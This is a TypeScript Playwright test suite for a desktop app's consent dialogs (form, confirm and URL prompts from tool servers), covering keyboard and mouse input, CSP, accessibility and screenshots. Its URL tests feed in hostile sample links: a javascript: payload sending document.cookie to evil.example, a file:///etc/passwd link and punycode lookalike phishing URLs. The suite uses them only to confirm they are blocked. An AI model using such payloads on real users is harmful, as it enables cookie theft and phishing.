// The built renderer in a real Chromium (Debian's, via playwright-core):
// every dialog kind answered by mouse and by keyboard, what reached the host
// API checked, axe-core run in light and dark, screenshots taken for
// docs/screenshots/, all under the strict CSP the app ships with.
import { mkdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { Question } from '../../shared/elicitation/types';
import {
  confirmQuestion,
  everyWidgetSchema,
  formQuestion,
  origin,
  urlQuestion,
} from '../../renderer/src/testing/questions';
import {
  buildPrivateRenderer,
  bundleGzipBytes,
  launchChromium,
  measurePaintLatency,
  openHarness,
  serveDir,
  type LaunchedBrowser,
  type StaticServer,
} from './paint-latency';
import { axe } from './app-shell';
import { screenshotDir } from './screenshot-dir';

let build: Awaited<ReturnType<typeof buildPrivateRenderer>>;
let server: StaticServer;
let launched: LaunchedBrowser;
const pages: Page[] = [];
// Problems a page reported: uncaught errors, CSP violations, requests leaving our server.
const problems: string[] = [];

beforeAll(async () => {
  build = await buildPrivateRenderer();
  server = await serveDir(build.dir);
  launched = await launchChromium();
  await mkdir(screenshotDir, { recursive: true });
});

afterAll(async () => {
  await launched?.close();
  await server?.close();
  await build?.remove();
});

afterEach(async () => {
  for (const p of pages.splice(0)) await p.close();
  expect(problems.splice(0)).toEqual([]);
});

/** A fresh harness page that reports every error, CSP violation and outside request. */
async function page(
  query: Record<string, string> = {},
  viewport = { width: 900, height: 760 },
  locale = 'en-US',
): Promise<Page> {
  const p = await openHarness(launched.browser, server.url, query, locale);
  await p.setViewportSize(viewport);
  p.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  p.on('console', (m) => {
    if (m.type() === 'error' || /Content.Security.Policy/i.test(m.text()))
      problems.push(`console ${m.type()}: ${m.text()}`);
  });
  p.on('request', (r) => {
    if (!r.url().startsWith(server.url)) problems.push(`request left the page's origin: ${r.url()}`);
  });
  pages.push(p);
  return p;
}

async function push(p: Page, q: Question): Promise<void> {
  await p.evaluate((question) => window.__pushQuestion(question), q);
  await p.waitForSelector(`[data-question-id="${q.id}"]`);
}

async function answers(p: Page): Promise<Array<{ questionId: string; answer: unknown }>> {
  return p.evaluate(() =>
    window.__hostCalls
      .filter((c) => c.method === 'answerQuestion')
      .map((c) => c.params as { questionId: string; answer: unknown }),
  );
}

async function waitForAnswers(p: Page, n: number) {
  await p.waitForFunction(
    (count) => window.__hostCalls.filter((c) => c.method === 'answerQuestion').length >= count,
    n,
  );
  return answers(p);
}

async function tab(p: Page, times = 1, shift = false) {
  for (let i = 0; i < times; i++) await p.keyboard.press(shift ? 'Shift+Tab' : 'Tab');
}

/** Presses Tab until `target` (see `focused`) has focus; fails after `max` presses. */
async function tabTo(p: Page, target: string, max = 20) {
  for (let i = 0; i < max; i++) {
    if ((await focused(p)) === target) return;
    await p.keyboard.press('Tab');
  }
  throw new Error(`Tab never reached ${target} (at ${await focused(p)})`);
}

const focused = (p: Page) =>
  p.evaluate(() => {
    const el = document.activeElement as HTMLElement | null;
    return el?.getAttribute('aria-label') || el?.textContent?.trim() || el?.id || el?.tagName || '';
  });

async function shot(p: Page, name: string) {
  // Let fonts, focus rings and transitions settle.
  await p.evaluate(() => new Promise((r) => requestAnimationFrame(() => requestAnimationFrame(r))));
  await p.screenshot({ path: join(screenshotDir, `${name}.png`) });
}

const richForm = () =>
  formQuestion(everyWidgetSchema, {
    message:
      'To open the issue, tell me who is reporting and how to reach you. Details: https://example.com/not-a-link',
    origin: origin({
      server: 'github',
      name: 'create_issue',
      argumentsSummary: 'repo="octo/hello", title="Crash on start"',
      round: 2,
    }),
  });
const smallForm = () =>
  formQuestion(
    {
      type: 'object',
      properties: {
        title: { type: 'string', title: 'Title', minLength: 3, maxLength: 60 },
        kind: {
          type: 'string',
          title: 'Kind',
          oneOf: [
            { const: 'bug', title: 'Bug' },
            { const: 'idea', title: 'Idea' },
          ],
        },
        labels: {
          type: 'array',
          title: 'Labels',
          items: { type: 'string', enum: ['ui', 'core', 'docs'] },
          maxItems: 2,
        },
        due: { type: 'string', title: 'Due', format: 'date' },
        urgent: { type: 'boolean', title: 'Urgent' },
      },
      required: ['title', 'kind'],
    },
    { message: 'Describe the issue you want to file.', origin: origin({ server: 'github', name: 'create_issue' }) },
  );

describe('page health', () => {
  it('runs under the strict CSP, validates with the eval-free engine, and fetches nothing else', async () => {
    const p = await page();
    expect(await p.evaluate(() => window.__validatorEngine())).toBe('interpreter');
    await push(p, smallForm());
    await p.click('text=Submit');
    await p.waitForSelector('text=This field is required.');
    // Only the page's own files: no favicon guessing, no preview, no font or analytics fetch.
    const requested = server.requests.filter((r) => !r.startsWith('/assets/'));
    expect([...new Set(requested)].sort()).toEqual(['/favicon.svg', '/harness.html']);
  });
});

describe('the app page', () => {
  it('loads under its CSP and, opened without the web shell token, says it cannot reach its host and why', async () => {
    const p = await launched.browser.newPage();
    pages.push(p);
    const errors: string[] = [];
    p.on('pageerror', (e) => errors.push(e.message));
    p.on('console', (m) => m.type() === 'error' && errors.push(m.text()));
    await p.goto(`${server.url}/index.html`);
    const alert = await p.waitForSelector('[role="alert"]');
    // What happened and what to do, not the transport's own error.
    expect(await alert.textContent()).toBe(
      'This page was opened without its access key, so it cannot talk to Countersign.' +
        'Open the link that "countersign web" printed in its terminal (it ends in #token=…). If that terminal is gone, run countersign web again: it prints a new link.',
    );
    expect(errors).toEqual([]);
  });
});

describe('form dialog', () => {
  it('by mouse: every widget filled, Submit sends exactly the typed content', async () => {
    const p = await page({}, { width: 900, height: 1000 });
    const q = richForm();
    await push(p, q);
    await p.fill('#answer_name', 'Grace');
    await p.fill('#answer_email', 'grace@example.com');
    await p.fill('#answer_homepage', 'https://example.com/grace');
    await p.fill('#answer_birthday', '1906-12-09');
    await p.fill('#answer_meeting', '2026-07-28T09:30');
    await p.fill('#answer_score', '7.5');
    await p.fill('#answer_seats', '3');
    await p.click('label:has-text("Subscribe")');
    await p.click('label.choice:has-text("blue")');
    await p.click('label.choice:has-text("Large")');
    await p.selectOption('#answer_legacy', { label: 'Alpha' });
    await p.click('label.choice:has-text("docs")');
    await p.click('label.choice:has-text("Web team")');
    await p.click('button:has-text("Submit")');
    const [sent] = await waitForAnswers(p, 1);
    const meeting = await p.evaluate(() => new Date('2026-07-28T09:30').toJSON());
    expect(sent).toEqual({
      questionId: q.id,
      answer: {
        action: 'accept',
        content: {
          name: 'Grace',
          email: 'grace@example.com',
          homepage: 'https://example.com/grace',
          birthday: '1906-12-09',
          meeting,
          score: 7.5,
          seats: 3,
          subscribe: false,
          colour: 'blue',
          size: 'l',
          legacy: 'a',
          tags: ['core', 'docs'],
          teams: ['web'],
        },
      },
    });
    await p.waitForSelector('[role="dialog"]', { state: 'detached' });
  });

  it('by keyboard: errors shown inline before anything is sent, then fixed and submitted with Enter on Submit', async () => {
    const p = await page();
    const q = smallForm();
    await push(p, q);
    expect(await p.evaluate(() => document.activeElement?.getAttribute('role'))).toBe('dialog');
    await p.keyboard.press('Enter'); // a stray Enter does nothing
    await tab(p, 2);
    expect(await focused(p)).toBe('answer_title');
    await p.keyboard.type('ab');
    await tab(p);
    await p.waitForSelector('text=Enter at least 3 characters.');
    expect(await p.locator('text=This field is required.').count()).toBe(0); // Kind was not visited yet
    await tabTo(p, 'Submit');
    await p.keyboard.press('Enter');
    await p.waitForSelector('text=Please correct the 2 highlighted fields.');
    expect(await answers(p)).toEqual([]);
    expect(await focused(p)).toBe('answer_title'); // focus moved to the first bad field
    await p.keyboard.type('c');
    await tab(p); // into the radio group (one stop)
    await p.keyboard.press('ArrowDown'); // arrow keys select within a radio group: Bug -> Idea
    await p.keyboard.press('ArrowUp');
    await p.keyboard.press('ArrowDown');
    await tab(p);
    await p.keyboard.press('Space'); // ui
    await tab(p, 2);
    await p.keyboard.press('Space'); // docs
    await tab(p);
    expect(await focused(p)).toBe('answer_due');
    await p.keyboard.type('12312026'); // Chromium's en-US date segments: mm dd yyyy, typing advances
    await tabTo(p, 'answer_urgent');
    await p.keyboard.press('Space');
    await tabTo(p, 'Submit');
    await p.keyboard.press('Enter');
    const [sent] = await waitForAnswers(p, 1);
    expect(sent).toEqual({
      questionId: q.id,
      answer: {
        action: 'accept',
        content: { title: 'abc', kind: 'idea', labels: ['ui', 'docs'], due: '2026-12-31', urgent: true },
      },
    });
  });

  it('Decline by mouse, Cancel by Escape and by the close button', async () => {
    const p = await page();
    const [a, b, c] = [smallForm(), smallForm(), smallForm()];
    await push(p, a);
    await p.click('button:has-text("Decline")');
    await waitForAnswers(p, 1);
    await push(p, b);
    await p.keyboard.press('Escape');
    await waitForAnswers(p, 2);
    await push(p, c);
    await p.click('button[aria-label^="Cancel"]');
    expect(await waitForAnswers(p, 3)).toEqual([
      { questionId: a.id, answer: { action: 'decline' } },
      { questionId: b.id, answer: { action: 'cancel' } },
      { questionId: c.id, answer: { action: 'cancel' } },
    ]);
  });
});

describe('a question arriving while the person works in the app', () => {
  it('takes the keyboard in the render that draws it; the app behind turns inert and shows the count after', async () => {
    const p = await page();
    const q = confirmQuestion();
    // The person is on the Settings button behind; the question arrives; what holds focus once its render is done
    // (a microtask later), before any frame or input event could run.
    const atArrival = await p.evaluate(async (question) => {
      const settings = [...document.querySelectorAll<HTMLButtonElement>('.nav-item')].find((b) =>
        b.textContent?.includes('Settings'),
      )!;
      settings.focus();
      window.__pushQuestion(question);
      await Promise.resolve();
      const dialog = document.querySelector(`[data-question-id="${CSS.escape(question.id)}"]`);
      return { focusInDialog: dialog !== null && dialog === document.activeElement };
    }, q);
    expect(atArrival).toEqual({ focusInDialog: true });
    // The key meant for the button lands on the dialog, which Enter never answers.
    await p.keyboard.press('Enter');
    await p.keyboard.press('Space');
    await p.waitForFunction(() => document.querySelector('.app')?.hasAttribute('inert') === true);
    expect(await p.textContent('.sidebar-status')).toContain('1');
    expect(await p.getAttribute('.app-main', 'data-view')).toBe('servers');
    expect(await answers(p)).toEqual([]);
    await p.keyboard.press('Escape');
    expect(await waitForAnswers(p, 1)).toEqual([{ questionId: q.id, answer: { action: 'cancel' } }]);
    await p.waitForFunction(() => document.querySelector('.app')?.hasAttribute('inert') === false);
  });
});

describe('confirm dialog', () => {
  it('by keyboard: Enter at first does nothing, a held Enter on Accept does nothing, Tab to Accept + Enter accepts', async () => {
    const p = await page();
    const q = confirmQuestion();
    await push(p, q);
    await p.keyboard.press('Enter');
    await p.keyboard.press('Space');
    await tab(p, 4); // close, Cancel, Decline, Accept
    expect(await focused(p)).toBe('Accept');
    // A key held down from before: only auto-repeat events arrive on Accept.
    await p.evaluate(() => {
      const b = document.activeElement!;
      for (let i = 0; i < 3; i++)
        b.dispatchEvent(new KeyboardEvent('keydown', { key: 'Enter', repeat: true, bubbles: true, cancelable: true }));
    });
    expect(await answers(p)).toEqual([]);
    await p.keyboard.press('Enter');
    expect(await waitForAnswers(p, 1)).toEqual([{ questionId: q.id, answer: { action: 'accept', content: {} } }]);
  });

  it('by mouse: Accept, Decline; Escape cancels', async () => {
    const p = await page();
    const [a, b, c] = [confirmQuestion(), confirmQuestion(), confirmQuestion()];
    await push(p, a);
    await p.click('button:has-text("Accept")');
    await waitForAnswers(p, 1);
    await push(p, b);
    await p.click('button:has-text("Decline")');
    await waitForAnswers(p, 2);
    await push(p, c);
    await p.keyboard.press('Escape');
    expect((await waitForAnswers(p, 3)).map((x) => x.answer)).toEqual([
      { action: 'accept', content: {} },
      { action: 'decline' },
      { action: 'cancel' },
    ]);
  });

  it('a long message scrolls inside the dialog and is reachable by keyboard', async () => {
    const p = await page({}, { width: 900, height: 600 });
    const long = Array.from(
      { length: 60 },
      (_, i) => `Line ${i + 1}: the server explains at length what will happen.`,
    ).join('\n');
    await push(p, confirmQuestion({ message: long }));
    await tab(p, 2); // close button, then the message box
    expect(await p.evaluate(() => document.activeElement?.classList.contains('message-text'))).toBe(true);
    await p.keyboard.press('PageDown');
    await p.waitForFunction(() => document.querySelector('.message-text')!.scrollTop > 0, undefined, { timeout: 3000 });
    expect(await axe(p)).toEqual([]);
    await p.keyboard.press('Enter');
    expect(await answers(p)).toEqual([]);
  });

  it('ignores a click in the first moments after it appears', async () => {
    // A delay far longer than a click takes even on a loaded machine (at 400 ms, a CI run at load 21
    // clicked after the delay had passed); the wait below ends when the button arms, not on a clock.
    const p = await page({ arm: '3000' });
    const q = confirmQuestion();
    await push(p, q);
    // Not yet active, and it says so (aria-disabled, greyed); a click now is refused.
    expect(await p.getAttribute('button:has-text("Accept")', 'aria-disabled')).toBe('true');
    await p.click('button:has-text("Accept")', { force: true });
    expect(await answers(p)).toEqual([]);
    await p.waitForSelector('button:has-text("Accept"):not([aria-disabled])', { timeout: 10_000 });
    await p.click('button:has-text("Accept")');
    expect(await waitForAnswers(p, 1)).toHaveLength(1);
  });
});

describe('URL consent dialog', () => {
  it('by mouse: nothing is fetched before consent; Open calls openQuestionUrl; "I\'m done" accepts', async () => {
    const p = await page();
    const href = `${server.url.replace('127.0.0.1', 'localhost')}/must-not-be-fetched?code=1`;
    const q: Question = { ...urlQuestion(), url: await p.evaluate((h) => window.__analyzeUrl(h), href) };
    await push(p, q);
    await p.waitForTimeout(300);
    expect(server.requests).not.toContain('/must-not-be-fetched');
    expect(await p.locator('[role="dialog"] a, [role="dialog"] img').count()).toBe(0);
    expect(await p.textContent('[data-testid="url-full"]')).toBe(href);
    await p.click('button:has-text("Open in browser")');
    await p.waitForSelector('[data-testid="url-waiting"]');
    const opened = await p.evaluate(() =>
      window.__hostCalls.filter((c) => c.method === 'openQuestionUrl').map((c) => c.params),
    );
    expect(opened).toEqual([{ questionId: q.id }]);
    expect(await answers(p)).toEqual([]);
    await p.click('button:has-text("I’m done, continue")');
    expect(await waitForAnswers(p, 1)).toEqual([{ questionId: q.id, answer: { action: 'accept' } }]);
    expect(server.requests).not.toContain('/must-not-be-fetched');
  });

  it('by keyboard: Tab to Open, Enter; Tab to Cancel, Enter', async () => {
    const p = await page();
    const q = urlQuestion();
    await push(p, q);
    await tab(p, 6); // close, full link, copy, cancel, decline, open
    expect(await focused(p)).toBe('Open in browser');
    await p.keyboard.press('Enter');
    await p.waitForSelector('[data-testid="url-waiting"]');
    await tab(p);
    expect(await focused(p)).toBe('Cancel');
    await p.keyboard.press('Enter');
    expect(await waitForAnswers(p, 1)).toEqual([{ questionId: q.id, answer: { action: 'cancel' } }]);
  });

  it('copies the link to the clipboard', async () => {
    const p = await page();
    await p.context().grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.url });
    await push(p, urlQuestion());
    await p.click('button:has-text("Copy link")');
    await p.waitForSelector('text=Link copied.');
    expect(await p.evaluate(() => navigator.clipboard.readText())).toBe(
      'https://accounts.example.com/oauth/authorize?client_id=abc&state=xyz',
    );
  });

  it('blocked schemes offer only Decline and Cancel', async () => {
    const p = await page();
    for (const href of ['javascript:alert(1)', 'file:///etc/passwd', 'data:text/html,hi', 'myapp://x']) {
      const q: Question = { ...urlQuestion(), url: await p.evaluate((h) => window.__analyzeUrl(h), href) };
      await push(p, q);
      expect(await p.locator('button:has-text("Open in browser")').count()).toBe(0);
      expect(await p.locator('button:has-text("Copy link")').count()).toBe(0);
      await p.click('button:has-text("Decline")');
      await p.waitForSelector(`[data-question-id="${q.id}"]`, { state: 'detached' });
    }
    expect((await answers(p)).map((a) => a.answer)).toEqual(Array(4).fill({ action: 'decline' }));
    expect(await p.evaluate(() => window.__hostCalls.filter((c) => c.method === 'openQuestionUrl').length)).toBe(0);
  });
});

describe('many questions', () => {
  it('queue from several servers: counter, order, notes for withdrawn ones, none lost or answered twice', async () => {
    const p = await page();
    const qs = [
      confirmQuestion({ origin: origin({ server: 'github' }) }),
      smallForm(),
      urlQuestion(),
      confirmQuestion({ origin: origin({ server: 'weather', name: 'forecast' }) }),
    ];
    for (const q of qs) await p.evaluate((question) => window.__pushQuestion(question), q);
    await p.waitForSelector('text=3 more waiting');
    await p.evaluate((id) => window.__withdraw(id, 'server-gone'), qs[3]!.id);
    await p.waitForSelector('text=The question from weather was withdrawn: the server went away.');
    await p.waitForSelector('text=2 more waiting');
    await p.dblclick('button:has-text("Accept")');
    await p.waitForSelector('text=github asks for information');
    await p.keyboard.press('Escape');
    await p.waitForSelector('text=calendar asks you to open a link');
    await p.click('button:has-text("Decline")');
    await p.waitForSelector('[role="dialog"]', { state: 'detached' });
    expect((await answers(p)).map((a) => [a.questionId, (a.answer as { action: string }).action])).toEqual([
      [qs[0]!.id, 'accept'],
      [qs[1]!.id, 'cancel'],
      [qs[2]!.id, 'decline'],
    ]);
  });
});

describe('accessibility (axe-core, with colour contrast) and screenshots', () => {
  for (const theme of ['light', 'dark'] as const) {
    it(`every dialog kind passes axe and is captured (${theme})`, async () => {
      const tall = await page({ theme }, { width: 900, height: 1640 });
      await push(tall, richForm());
      expect(await axe(tall)).toEqual([]);
      await shot(tall, `form-${theme}`);

      const p = await page({ theme });
      const form = smallForm();
      await push(p, form);
      await p.fill('#answer_title', 'ab');
      await p.click('button:has-text("Submit")');
      await p.waitForSelector('text=Please correct the 2 highlighted fields.');
      expect(await axe(p)).toEqual([]);
      await shot(p, `form-errors-${theme}`);
      await p.keyboard.press('Escape');

      const secret = formQuestion(
        {
          type: 'object',
          properties: {
            user: { type: 'string', title: 'User name' },
            apiKey: { type: 'string', title: 'API key', description: 'Found in your account settings.' },
          },
          required: ['apiKey'],
        },
        {
          message: 'Connect your billing account.',
          origin: origin({ server: 'payments', name: 'link_account', argumentsSummary: undefined }),
        },
      );
      await push(p, secret);
      expect(await axe(p)).toEqual([]);
      await shot(p, `form-secret-${theme}`);
      await p.keyboard.press('Escape');

      const confirm = confirmQuestion({
        message: 'Delete the branch "old-ui"? This cannot be undone.',
        origin: origin({
          server: 'github',
          name: 'delete_branch',
          argumentsSummary: 'repo="octo/hello", branch="old-ui"',
        }),
      });
      await push(p, confirm);
      await p.keyboard.press('Tab'); // show the focus ring on the close button
      await p.keyboard.press('Tab'); // and on the labelled Cancel
      expect(await axe(p)).toEqual([]);
      await shot(p, `confirm-${theme}`);
      await p.keyboard.press('Escape');

      // A tool its server marks destructive: said under the title, and Accept in the danger colour.
      const destructive = confirmQuestion({
        message: 'Delete time entry 7? This cannot be undone.',
        origin: origin({ server: 'kimai', name: 'delete_time_entry', toolHints: { destructive: true } }),
      });
      await push(p, destructive);
      await p.waitForSelector('[role="dialog"] [data-arming]', { state: 'detached' });
      expect(await p.locator('[role="dialog"] button.button-danger').textContent()).toBe('Accept');
      expect(await axe(p)).toEqual([]);
      await shot(p, `confirm-destructive-${theme}`);
      await p.keyboard.press('Escape');

      await push(p, urlQuestion());
      expect(await axe(p)).toEqual([]);
      await shot(p, `url-${theme}`);
      await p.click('button:has-text("Open in browser")');
      await p.waitForSelector('[data-testid="url-waiting"]');
      expect(await axe(p)).toEqual([]);
      await shot(p, `url-waiting-${theme}`);
      await p.keyboard.press('Escape');

      const idn: Question = {
        ...urlQuestion(),
        url: await p.evaluate(() =>
          window.__analyzeUrl('https://login.xn--pypal-4ve.com@203.0.113.7/verify?next=%2Faccount'),
        ),
      };
      await push(p, idn);
      expect(await axe(p)).toEqual([]);
      await shot(p, `url-warnings-${theme}`);
      await p.keyboard.press('Escape');

      const punycode: Question = {
        ...urlQuestion(),
        url: await p.evaluate(() =>
          window.__analyzeUrl('https://accounts.xn--pypal-4ve.com/signin?continue=%2Fbilling'),
        ),
      };
      await push(p, punycode);
      await shot(p, `url-punycode-${theme}`);
      await p.keyboard.press('Escape');

      const blocked: Question = {
        ...urlQuestion(),
        url: await p.evaluate(() =>
          window.__analyzeUrl('javascript:fetch("https://evil.example/?c="+document.cookie)'),
        ),
      };
      await push(p, blocked);
      expect(await axe(p)).toEqual([]);
      await shot(p, `url-blocked-${theme}`);
      await p.keyboard.press('Escape');

      // Several waiting, and a note about one that was withdrawn.
      const queued = [
        confirmQuestion({
          origin: origin({ server: 'files', name: 'remove', argumentsSummary: 'path="~/Downloads/old"' }),
          message: 'Remove 14 files from ~/Downloads/old?',
        }),
        smallForm(),
        urlQuestion(),
        confirmQuestion({ origin: origin({ server: 'weather' }) }),
      ];
      for (const q of queued) await p.evaluate((question) => window.__pushQuestion(question), q);
      await p.evaluate((id) => window.__withdraw(id, 'call-cancelled'), queued[3]!.id);
      await p.waitForSelector('text=2 more waiting');
      expect(await axe(p)).toEqual([]);
      await shot(p, `queue-${theme}`);
    });
  }

  it('German UI, following a German system (screenshot)', async () => {
    const p = await page({ theme: 'light', lang: 'system' }, { width: 900, height: 760 }, 'de-DE');
    await push(p, smallForm());
    await p.waitForSelector('text=Absenden');
    expect(await axe(p)).toEqual([]);
    expect(await p.evaluate(() => document.documentElement.lang)).toBe('de');
    await shot(p, 'form-de-light');
  });
});

describe('performance', () => {
  it('paints a question within budget and keeps the bundle small', async () => {
    const result = await measurePaintLatency({ runs: 20, dir: build.dir });
    console.log(
      `paint latency median ${result.medianMs.toFixed(1)} ms, p95 ${result.p95Ms.toFixed(1)} ms; bundle ${(result.bundleGzipBytes / 1024).toFixed(1)} kB gzip`,
    );
    expect(result.medianMs).toBeLessThan(250); // goal 50 ms; the bound only catches gross regressions on slow CI
    expect(result.bundleGzipBytes).toBeLessThan(600 * 1024);
    expect((await bundleGzipBytes(build.dir)).files['index.html']).toBeGreaterThan(0);
  });
});
